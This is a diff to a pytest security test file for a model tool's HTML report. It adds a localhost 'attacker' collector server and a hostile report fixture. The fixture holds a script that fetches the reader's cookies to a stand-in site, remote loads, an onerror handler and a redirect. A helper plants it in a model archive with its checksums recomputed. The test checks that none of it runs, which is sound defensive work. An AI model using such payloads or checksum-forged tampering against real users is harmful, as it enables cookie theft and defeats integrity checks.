@@ -7,8 +7,13 @@ be unchanged afterwards (checked on the server, not in the browser).
 from __future__ import annotations
 
 import base64
+import hashlib
 import http.server
+import json
+import subprocess
+import sys
 import threading
+import zipfile
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -73,8 +78,10 @@ async function attack(pictureBase64) {
 
 class _AttackSite(http.server.BaseHTTPRequestHandler):
     page = b""
+    asked: list[str] = []  # noqa: RUF012 - every path asked for, by any page
 
     def do_GET(self) -> None:
+        self.asked.append(self.path)
         self.send_response(200)
         self.send_header("Content-Type", "text/html; charset=utf-8")
         self.send_header("Content-Length", str(len(self.page)))
@@ -94,7 +101,17 @@ def studio(tmp_path: Path) -> Iterator[Server]:
 @pytest.fixture
 def attack_site(studio: Server) -> Iterator[int]:
     """The attacker's web server: another port on 127.0.0.1, serving the attack page aimed at the Studio."""
-    _AttackSite.page = ATTACK_PAGE.replace("TARGET", studio.url).encode()
+    yield from _attacker(ATTACK_PAGE.replace("TARGET", studio.url).encode())
+
+
+@pytest.fixture
+def collector() -> Iterator[int]:
+    """The attacker's web server, where a page would send what it took (:attr:`_AttackSite.asked`)."""
+    yield from _attacker(b"")
+
+
+def _attacker(page: bytes) -> Iterator[int]:
+    _AttackSite.page, _AttackSite.asked = page, []
     port = free_port()
     site = http.server.ThreadingHTTPServer(("127.0.0.1", port), _AttackSite)
     thread = threading.Thread(target=site.serve_forever, daemon=True)
@@ -149,3 +166,50 @@ def _other_picture() -> bytes:
     buffer = io.BytesIO()
     Image.new("RGB", (64, 48), (200, 30, 60)).save(buffer, "JPEG")
     return buffer.getvalue()
+
+
+#: A report someone else wrote into a model file (its checksums recomputed): a script that would send the reader's
+#: cookies away, a script and a picture from their site, an event handler, a refresh to their site. ``SITE`` is
+#: replaced by the collector's address.
+HOSTILE_REPORT = """<!doctype html><html><head><title>report</title>
+<meta http-equiv="refresh" content="0;url=SITE/refresh"></head><body><p id="said">Accuracy: 100%</p>
+<script>document.title = "ran"; fetch("SITE/fetch?" + document.cookie);</script>
+<script src="SITE/script.js"></script><img alt="" src="SITE/picture.png"><link rel="stylesheet" href="SITE/style.css">
+<img alt="" src="data:," onerror="document.title = 'ran'"></body></html>"""
+
+
+def test_a_report_someone_else_wrote_runs_nothing_and_loads_nothing(page: Page, tmp_path: Path, collector: int) -> None:
+    import opensight as osi
+
+    pictures = teaching_pictures(tmp_path / "pictures", per_class=2)
+    good = osi.teach(pictures).save(tmp_path / "good.osm")
+    hostile = _with_report(
+        good, tmp_path / "hostile.osm", HOSTILE_REPORT.replace("SITE", f"http://127.0.0.1:{collector}")
+    )
+    written = tmp_path / "report.html"
+    command = [sys.executable, "-m", "opensight", "report", str(hostile), "--out", str(written)]
+    done = subprocess.run(command, capture_output=True, text=True, timeout=300, check=False)
+    assert done.returncode == 0, done.stderr
+
+    page.goto(written.as_uri())
+    page.wait_for_timeout(1500)  # time for a refresh, a fetch or a load to happen
+    assert page.url == written.as_uri()
+    assert page.title() == "report"
+    assert page.locator("#said").inner_text() == "Accuracy: 100%"  # the page itself is shown
+    assert _AttackSite.asked == [], f"the report loaded from or sent to another site: {_AttackSite.asked}"
+
+
+def _with_report(source: Path, target: Path, report: str) -> Path:
+    """A copy of the model file ``source`` with ``report`` as its report, the checksums recomputed."""
+    with zipfile.ZipFile(source) as archive:
+        members = {name: archive.read(name) for name in archive.namelist()}
+    members["report.html"] = report.encode()
+    manifest = json.loads(members["manifest.json"])
+    manifest["members"] = {
+        name: hashlib.sha256(data).hexdigest() for name, data in members.items() if name != "manifest.json"
+    }
+    members["manifest.json"] = json.dumps(manifest).encode()
+    with zipfile.ZipFile(target, "w") as archive:
+        for name, data in members.items():
+            archive.writestr(name, data)
+    return target
